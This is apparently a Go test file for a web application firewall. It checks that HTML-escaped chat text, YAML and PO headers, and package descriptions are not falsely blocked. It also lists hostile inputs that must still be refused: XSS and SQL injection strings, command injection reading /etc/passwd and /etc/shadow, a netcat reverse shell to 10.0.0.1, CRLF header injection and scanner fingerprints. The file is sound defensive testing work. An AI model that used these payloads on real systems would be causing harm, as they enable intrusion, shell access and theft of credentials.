package waf

import (
	"net/http/httptest"
	"testing"
)

// TestCharRef: a character reference is a number or a name HTML knows,
// ended by ';'.
func TestCharRef(t *testing.T) {
	for _, c := range []struct {
		s    string
		want int
	}{
		{"&lt;b", 4}, {"&#39;s", 5}, {"&#x3c;", 6}, {"&#X3C;", 6}, {"&amp;&amp;", 5}, {"&copy;", 6},
		{"&foo;", 0}, {"&lt", 0}, {"&#;", 0}, {"&#x;", 0}, {"&#12345678;", 0}, {"AT&T;", 0}, {"& lt;", 0}, {"&1t;", 0},
	} {
		i := 0
		if c.s[0] != '&' {
			i = 2
		}
		if got := charRef(c.s, i); got != c.want {
			t.Errorf("charRef(%q) = %d, want %d", c.s, got, c.want)
		}
	}
}

// TestHTMLEscapedText: text an application stored or sent HTML-escaped is
// read as the text its references stand for, by every detector and by
// Coraza: "it&#39;s" is no MySQL comment, "&lt;nick&gt; yum" no command
// after ';', "&quot;alter&quot;" no stacked query (7.0% of the fortunes
// corpus escaped this way was refused before; corpus_test.go's
// json-html-escaped row). Attacks written with references, or around
// them, are still refused.
func TestHTMLEscapedText(t *testing.T) {
	checkBlocks(t, sharedStage(t), []string{"query", "json"}, []blockCase{
		{"&lt;lilo&gt; I&#39;ve always wanted to have a web site with a big picture of a carrot on it", false},
		{"&lt;dark&gt; Looks like the channel is back to normal :)\n&lt;jim&gt; You mean it&#39;s not scrolling", false},
		{"&lt;Valkyrie&gt; yum, can I have some?\n&lt;Knghtbrd&gt; um ...", false},
		{"&lt;Knghtbrd&gt; CVS/Entries had the line I needed to &quot;alter&quot;", false},
		{"he declared half of his salary\nas &#39;unearned income.&#39;", false},
		{"Tom &amp; Jerry &#8211; the 1940&#x2019;s shorts", false},
		{"&lt;script&gt;alert(1)&lt;/script&gt;", true},
		{"&#x3c;img src=x onerror=alert(1)&#x3e;", true},
		{"1&#39; OR &#39;1&#39;=&#39;1", true},
		{"x&#59;cat /etc/passwd", true},
		{"&lt;b&gt;;cat /etc/passwd", true},
		{"&quot; UNION SELECT password FROM users--", true},
	})
}

// TestScannerFingerprints: a scanner's name in the User-Agent, a header
// only scanners send, and an out-of-band interaction domain in any header
// are fingerprints; a tool's name in a Referer or an Origin is a URL.
func TestScannerFingerprints(t *testing.T) {
	s := sharedStage(t)
	for _, c := range []struct {
		header, value string
		block         bool
	}{
		{"User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)", true},
		{"User-Agent", "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))", true},
		{"X-Scanner", "Netsparker", true},
		{"Referer", "https://abc123.oast.fun/x", true},
		{"Referer", "https://github.com/ory/hydra", false},
		{"Origin", "https://medusa-admin.example.com", false},
		{"Referer", "https://sqlmap.org/", false},
		{"User-Agent", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36", false},
	} {
		r := httptest.NewRequest("GET", "/api/items?limit=10", nil)
		r.Header.Set(c.header, c.value)
		v, err := s.Inspect(exchange(r))
		if err != nil {
			t.Fatal(err)
		}
		if v.Blocked != c.block {
			t.Errorf("%s: %s: blocked %v (rules %v), want %v", c.header, c.value, v.Blocked, v.Rules, c.block)
		}
	}
}

// TestFieldLines: a value of "name: value" lines from its first line on
// (YAML, a PO file's header, MIME headers) is a document, not response
// splitting into a custom header; a header after a value, and the
// headers that do harm after anything, still are.
func TestFieldLines(t *testing.T) {
	checkBlocks(t, sharedStage(t), []string{"json"}, []blockCase{
		{"name: build\non: [push]\njobs:\n  test:\n    runs-on: ubuntu-latest", false},
		{"Project-Id-Version: xdg-user-dirs 0.14\nReport-Msgid-Bugs-To: \nPO-Revision-Date: 2014-09-13 10:17+0200\nLanguage-Team: Turkish", false},
		{"apiVersion: v1\nkind: Pod\nmetadata:\n  name: web\n  labels:\n    app-name: web", false},
		{"/home?x=1\r\nX-Custom-Header: injected", true},
		{"en\nX-Forwarded-For: 127.0.0.1", true},
		{"lang: en\r\nSet-Cookie: session=evil", true},
		{"a: b\nLocation: https://evil.example", true},
	})
}

// TestCommandInsideWord: CRS 932340, 932230 and 932250 find a command
// anywhere, also inside a word ("runtime" holds time, "kdesu" ends in su:
// 11 of 20,000 Debian package descriptions were refused for it); a command
// after a separator a shell reads is still refused.
func TestCommandInsideWord(t *testing.T) {
	checkBlocks(t, sharedStage(t), []string{"query", "json"}, []blockCase{
		{"runtime files for kdesu", false},
		{"HDF5 - Runtime tools", false},
		{"Erlang/OTP runtime tracing/debugging tools", false},
		// 932230 and 932250 read "time" in "runtime" as the command too.
		{"C++ runtime polymorphism based on concepts", false},
		{"runtime Haskell interpreter (GHC API wrapper); documentation", false},
		{"runtime library for PDF transformation/inspection software", false},
		{"GnuPG development runtime library (executable tools)", false},
		{"a;time nc -e /bin/sh 10.0.0.1 4444", true},
		{"C++ runtime; time cat /etc/shadow", true},
		{";ps", true},
		{"&aptitude", true},
		{"x;ps", true},
		{"runtime;ps", true},
		{"x&&hostname", true},
	})
}

// TestGoBeforeAWord: "Go" before a word is the language or the go command,
// not T-SQL's batch separator (which stands on a line of its own), in
// package and repository descriptions; injections around it are still
// refused by the rest of the stage.
func TestGoBeforeAWord(t *testing.T) {
	checkBlocks(t, sharedStage(t), []string{"query", "json"}, []blockCase{
		{"pure Go embedded SQL database", false},
		{"idiomatic Go (golang) validation package.", false},
		{"Go library for reading and writing SQL database dumps", false},
		{"1' GO UNION SELECT password FROM users--", true},
		{"1'; DROP TABLE users\nGO\n--", true},
		{"a\" go drop table x", true},
	})
}
